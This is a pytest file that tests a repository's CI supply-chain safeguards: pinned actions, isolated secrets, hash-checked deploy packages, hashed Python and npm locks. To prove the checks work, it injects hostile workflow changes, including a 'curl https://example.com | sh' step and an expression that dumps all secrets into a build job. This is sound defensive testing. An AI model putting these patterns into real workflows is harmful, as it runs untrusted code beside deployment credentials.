"""The supply chain: no workflow lets other people's code near a credential, and what is installed is what was written down."""

import base64
import copy
import hashlib
import json
import os
import re
import subprocess
import tarfile
import zipfile

import pytest
import workflows
from expansion import ROOT
from workflows import DEPLOY, WORKFLOWS, read, steps

LOCKS = sorted(path for part in ("infra", "tests", "tools") for path in ROOT.glob(f"{part}/**/requirements*.txt") if "node_modules" not in path.parts)
PACKAGES = [path for folder in ("infra/cdk", "tests/browser", "tests/conformance") for path in [ROOT / folder / "package-lock.json"]]


def of(path) -> str:
    return str(path.relative_to(ROOT))


@pytest.mark.parametrize("check", workflows.CHECKS, ids=lambda check: check.__name__)
@pytest.mark.parametrize("workflow", WORKFLOWS, ids=of)
def test_a_workflow_keeps_other_peoples_code_and_credentials_apart(workflow, check):
    assert list(check(read(workflow))) == []


def job(workflow: dict, name: str) -> dict:
    return workflow["jobs"][name]


def step(workflow: dict, name: str, what: str) -> dict:
    return next(step for step in steps(job(workflow, name)) if what in str(step))


def runs(workflow: dict, command: str, before: str = "make deploy") -> None:
    place = steps(job(workflow, "deploy"))
    place.insert(place.index(step(workflow, "deploy", before)), {"run": command})


def swap(workflow: dict, first: str, second: str) -> None:
    place = steps(job(workflow, "deploy"))
    a, b = (place.index(step(workflow, "deploy", what)) for what in (first, second))
    place[a], place[b] = place[b], place[a]


# What is done to the workflow that deploys, and the check that has to notice.
NEUTERED = {
    "everything may be written": (workflows.loose_permissions, lambda w: w.update(permissions="write-all")),
    "the build may write": (workflows.loose_permissions, lambda w: job(w, "package")["permissions"].update(contents="write")),
    "the build has GitHub's default": (workflows.loose_permissions, lambda w: job(w, "package").pop("permissions")),
    "cargo beside the token": (workflows.others_code, lambda w: runs(w, "cargo build --release")),
    "packaging beside the token": (workflows.others_code, lambda w: runs(w, "make package")),
    "a deployment that packages": (workflows.others_code, lambda w: step(w, "deploy", "make deploy").update(run='make deploy STAGE="$STAGE"')),
    "the CDK beside the token": (workflows.others_code, lambda w: runs(w, "make deploy-cdk STAGE=test")),
    "npm beside the token": (workflows.others_code, lambda w: runs(w, "npm ci")),
    "pip beside the token": (workflows.others_code, lambda w: runs(w, "pip install aws-sam-cli")),
    "the tests beside the token": (workflows.others_code, lambda w: runs(w, "make test")),
    "a script beside the token": (workflows.others_code, lambda w: runs(w, "curl https://example.com | sh")),
    "a command behind a verb": (workflows.others_code, lambda w: runs(w, "make .tools/infra/tools && npx something")),
    "another action beside the token": (workflows.others_code, lambda w: step(w, "deploy", "checkout").update(uses=f"octo/checkout@{'0' * 40}")),
    "a token in the build": (workflows.credentials_in_a_build, lambda w: job(w, "package")["permissions"].update({"id-token": "write"})),
    "an environment in the build": (workflows.credentials_in_a_build, lambda w: job(w, "package").update(environment="live")),
    "a secret in the build": (workflows.credentials_in_a_build, lambda w: steps(job(w, "package"))[-2].update(env={"KEY": "${{ secrets.KEY }}"})),
    "all secrets in the build": (workflows.credentials_in_a_build, lambda w: steps(job(w, "package"))[-2].update(env={"KEYS": "${{ toJSON(secrets) }}"})),
    "a secret in the build by its name": (workflows.credentials_in_a_build, lambda w: job(w, "package").update(env={"KEY": "${{ secrets['KEY'] }}"})),
    "a job without an environment": (workflows.shared_secrets, lambda w: job(w, "deploy").pop("environment")),
    "a secret for every job": (workflows.shared_secrets, lambda w: w["env"].update(KEY="${{ secrets.KEY }}")),
    "all secrets for another workflow": (workflows.shared_secrets, lambda w: w["jobs"].update(other={"uses": "./.github/workflows/test.yml", "secrets": "inherit"})),
    "GitHub's token stays in the checkout": (
        workflows.credentials_in_a_build,
        lambda w: step(w, "package", "checkout")["with"].update({"persist-credentials": True}),
    ),
    "GitHub's token stays by default": (workflows.credentials_in_a_build, lambda w: step(w, "deploy", "checkout").pop("with")),
    "a tag instead of a commit": (workflows.unpinned_actions, lambda w: step(w, "deploy", "configure-aws").update(uses=f"{workflows.ROLE}@v6")),
    "a branch instead of a commit": (workflows.unpinned_actions, lambda w: step(w, "deploy", "checkout").update(uses="actions/checkout@main")),
    "a commit's beginning": (workflows.unpinned_actions, lambda w: step(w, "package", "upload").update(uses="actions/upload-artifact@043fb46")),
    "a pull request deploys": (workflows.open_to_others, lambda w: w.update({True: {"pull_request_target": {}}, "on": {"pull_request_target": {}}})),
    "the clock deploys": (workflows.open_to_others, lambda w: w.update({True: {"schedule": []}, "on": {"schedule": []}})),
    "any branch deploys": (workflows.open_to_others, lambda w: job(w, "deploy").pop("if")),
    "the hash is not checked": (
        workflows.unchecked_package,
        lambda w: steps(job(w, "deploy")).remove(step(w, "deploy", "sha256sum")),
    ),
    "the hash is looked at and passed over": (workflows.unchecked_package, lambda w: step(w, "deploy", "sha256sum").update({"continue-on-error": True})),
    "the hash of what was downloaded": (workflows.unchecked_package, lambda w: step(w, "deploy", "sha256sum").pop("env")),
    "another file is checked": (
        workflows.unchecked_package,
        lambda w: step(w, "deploy", "sha256sum").update(run='echo "$SHA256  other.zip" | sha256sum --check --strict'),
    ),
    "the hash is checked after the role": (workflows.unchecked_package, lambda w: swap(w, "sha256sum", "configure-aws")),
    "another zip is deployed": (
        workflows.unchecked_package,
        lambda w: step(w, "deploy", "make deploy").update(run='make deploy STAGE="$STAGE" CODE=target/bootstrap.zip CONFIRM="$STAGE"'),
    ),
    "the build tells no hash": (workflows.unchecked_package, lambda w: job(w, "package").pop("outputs")),
    "the package is installed by another job": (workflows.unchecked_package, lambda w: job(w, "deploy").pop("needs")),
    "tools are installed with the role in hand": (workflows.late_installs, lambda w: swap(w, ".tools/infra/tools", "configure-aws")),
}


@pytest.mark.parametrize("what", NEUTERED)
def test_a_neutered_workflow_is_noticed(what):
    check, neuter = NEUTERED[what]
    workflow = copy.deepcopy(read(DEPLOY))
    neuter(workflow)
    assert list(check(workflow))


def test_every_check_is_seen_to_notice():
    assert {check for check, _ in NEUTERED.values()} == {*workflows.CHECKS}


def test_the_key_of_the_probe_is_its_environments():
    """On the clock, without anybody who looks: so no key of another environment, and none of the whole repository."""
    probe = job(read(WORKFLOWS[0].with_name("probe.yml")), "probe")
    assert probe["environment"] == "probe"
    others = [one.get("environment") for path in WORKFLOWS if path.name != "probe.yml" for one in read(path)["jobs"].values()]
    deploy = read(DEPLOY)
    stages = (deploy.get("on") or deploy[True])["workflow_dispatch"]["inputs"]["stage"]["options"]
    assert "probe" not in [*others, *stages]
    text = (ROOT / "docs/proof.md").read_text().split("## Questions to Stripe")[1]
    assert "New environment `probe`" in text and "`main` alone" in text
    used = {*re.findall(r"(?:secrets|vars)\.(\w+)", str(probe))}
    assert used and used == {*re.findall(r"`(STRIPE_TEST_\w+)`", text)}


def test_a_package_that_was_changed_on_the_way_is_refused(tmp_path):
    """The step itself, as GitHub's shell runs it."""
    (tmp_path / "package").mkdir()
    package, script = tmp_path / "package/bootstrap.zip", step(read(DEPLOY), "deploy", "sha256sum")["run"]
    package.write_bytes(b"what was built")
    environment = {**os.environ, "SHA256": hashlib.sha256(b"what was built").hexdigest()}
    shell = lambda **more: subprocess.run(["bash", "-e", "-c", script], cwd=tmp_path, env=environment | more, capture_output=True).returncode  # noqa: E731
    assert shell() == 0
    assert shell(SHA256="") != 0
    package.write_bytes(b"what was built.")
    assert shell() != 0


def unlocked(lock: str, wanted: str) -> list[str]:
    """Lines of a lock that are no version with hashes, and what the .in asks for and the lock does not have."""
    entries = [entry for entry in re.sub(r"\\\n\s*", "", re.sub(r"^#.*\n", "", lock, flags=re.M)).splitlines() if entry]
    form = r"([A-Za-z0-9._-]+)==\S+( ; [^;]+?)?( *--hash=sha256:[0-9a-f]{64})+"
    name = lambda text: re.sub(r"[-_.]+", "-", re.sub(r"\[.*\]", "", text)).lower()  # noqa: E731
    locked = {name(entry.split(" ")[0]) for entry in entries}
    asked = {name(line) for line in wanted.splitlines() if "==" in line}
    return [entry for entry in entries if not re.fullmatch(form, entry)] + sorted(asked - locked)


@pytest.mark.parametrize("path", LOCKS, ids=of)
def test_every_python_package_has_its_hashes(path):
    assert unlocked(path.read_text(), path.with_suffix(".in").read_text()) == []


def test_a_package_without_its_hash_is_noticed():
    path = ROOT / "infra/requirements.txt"
    lock, wanted = path.read_text(), path.with_suffix(".in").read_text()
    hashes = re.compile(r"(boto3==\S+) \\\n( +--hash=\S+( \\)?\n)+")
    assert unlocked(hashes.sub(r"\1\n", lock), wanted) and unlocked(hashes.sub("", lock), wanted)
    assert unlocked(lock.replace("boto3==", "boto3>="), wanted) and unlocked("--extra-index-url somewhere\n" + lock, wanted)
    assert unlocked("git+ssh://git@example.com/boto3\n" + lock, wanted)


def wheel(folder, files: dict[str, str]):
    """A package as pip takes it."""
    path = folder / "parcel-1.0-py3-none-any.whl"
    info = {"parcel-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: parcel\nVersion: 1.0\n"}
    info["parcel-1.0.dist-info/WHEEL"] = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    with zipfile.ZipFile(path, "w") as package:
        for name, text in {**files, **info}.items():
            package.writestr(name, text)
        digest = lambda text: base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()  # noqa: E731
        record = [f"{name},sha256={digest(text)},{len(text)}" for name, text in {**files, **info}.items()]
        package.writestr("parcel-1.0.dist-info/RECORD", "\n".join([*record, "parcel-1.0.dist-info/RECORD,,\n"]))
    return path


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_what_is_installed_is_what_was_written_down_and_runs_nothing(tmp_path):
    """tools/python, given another file than the one whose hash is known, or one that would have to be built."""
    requirements, mark = tmp_path / "requirements.txt", tmp_path / "it-ran"

    def install(line: str) -> subprocess.CompletedProcess:
        requirements.write_text(line + "\n")
        environment = {**os.environ, "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(tmp_path)}
        return subprocess.run(["tools/python", tmp_path / "venv", requirements], cwd=ROOT, env=environment, capture_output=True, text=True)

    good = sha256(wheel(tmp_path, {"parcel.py": "good = True\n"}))
    assert install(f"parcel==1.0 --hash=sha256:{good}").returncode == 0
    assert "hash" in (done := install("parcel==1.0")).stderr and done.returncode != 0
    wheel(tmp_path, {"parcel.py": "good = False\n"})
    assert "DO NOT MATCH" in (done := install(f"parcel==1.0 --hash=sha256:{good}")).stderr and done.returncode != 0

    (tmp_path / "parcel-1.0-py3-none-any.whl").unlink()
    (tmp_path / "setup.py").write_text(f"open({str(mark)!r}, 'w')\nfrom setuptools import setup\nsetup(name='parcel', version='1.0')\n")
    source = tmp_path / "parcel-1.0.tar.gz"
    with tarfile.open(source, "w:gz") as archive:
        archive.add(tmp_path / "setup.py", "parcel-1.0/setup.py")
    assert install(f"parcel==1.0 --hash=sha256:{sha256(source)}").returncode != 0 and not mark.exists()


def bare(lock: dict) -> list[str]:
    """Packages of npm without the hash of their file. What is bundled is part of another's file."""
    named = {name: entry for name, entry in lock["packages"].items() if name and not entry.get("link") and not entry.get("inBundle")}
    return [name for name, entry in named.items() if not entry.get("integrity", "").startswith("sha512-")]


@pytest.mark.parametrize("path", PACKAGES, ids=of)
def test_npm_installs_what_the_lock_says_and_runs_none_of_it(path):
    lock = json.loads(path.read_text())
    assert len(lock["packages"]) > 1 and bare(lock) == []
    lines = workflows.would_start(f"--always-make {of(path.parent)}/node_modules/.installed")
    (install,) = [line for line in lines if "npm" in line]
    assert "npm ci " in install and " --ignore-scripts" in install
    last = [name for name, entry in lock["packages"].items() if "integrity" in entry][-1]
    lock["packages"][last].pop("integrity")
    assert bare(lock) == [last]
